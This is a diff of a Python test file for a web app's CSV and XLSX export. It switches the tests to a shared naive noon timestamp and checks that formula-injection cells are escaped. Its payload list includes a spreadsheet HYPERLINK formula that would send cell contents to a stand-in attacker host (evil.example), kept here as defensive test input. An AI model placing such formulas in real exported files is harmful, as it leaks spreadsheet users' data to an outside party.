@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 import csv
-from datetime import datetime
+from datetime import UTC, datetime
 from pathlib import Path
 
 import openpyxl
@@ -25,6 +25,8 @@ from tests.feedback.consolidation.arrange import (
 )
 from tests.support.queries import counted_queries
 
+# A moment as spreadsheets keep it: on a clock in Damascus, without a zone.
+LOCAL_NOON = datetime(2026, 11, 21, 12, 0, tzinfo=UTC).replace(tzinfo=None)
 PAYLOADS = (
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+1",
@@ -46,12 +48,12 @@ def _one_row(*values: table.Value) -> Table:
 class TestCsv:
     def test_no_cell_is_executed(self, app: Flask, tmp_path: Path) -> None:
         file = tmp_path / "table.csv"
-        csv_table.write(file, _one_row(*PAYLOADS, "a=1", 7, None, datetime(2026, 11, 21, 12, 5)))
+        csv_table.write(file, _one_row(*PAYLOADS, "a=1", 7, None, LOCAL_NOON))
         assert file.read_bytes().startswith(b"\xef\xbb\xbf")
         with file.open(encoding="utf-8-sig", newline="") as stream:
             cells = list(csv.reader(stream))[1]
         assert cells[:8] == [f"'{payload}" for payload in PAYLOADS[:8]]
-        assert cells[8:] == ["http://evil.example/", "a=1", "7", "", "2026-11-21 12:05"]
+        assert cells[8:] == ["http://evil.example/", "a=1", "7", "", "2026-11-21 12:00"]
 
     def test_headings_are_safe_too(self, app: Flask, tmp_path: Path) -> None:
         file = tmp_path / "table.csv"
@@ -74,7 +76,7 @@ class TestXlsx:
     @pytest.mark.parametrize(("language", "rtl"), [("ar", True), ("en", False)])
     def test_sheet(self, app: Flask, tmp_path: Path, language: str, rtl: bool) -> None:
         file = tmp_path / "table.xlsx"
-        moment = datetime(2026, 11, 21, 12, 5)
+        moment = LOCAL_NOON
         rows = iter([(1, "نص", moment), (2, "نص", moment)])
         columns = [Column("a", 8), Column("b", 40), Column("c", 17)]
         with app.app_context(), force_locale(language):
@@ -119,7 +121,7 @@ class TestRows:
             PARAGRAPH_AR,
         ]
         assert rows[0][8:12] == ["العبارة تحتاج إلى مصدر.", "نص بديل", "غير مقبول", "لا مصدر."]
-        assert rows[0][12] == datetime(2026, 11, 21, 12, 0)
+        assert rows[0][12] == LOCAL_NOON
         assert rows[1][5:7] == [None, None] and rows[1][10:12] == [None, None]
 
     def test_english(self) -> None:
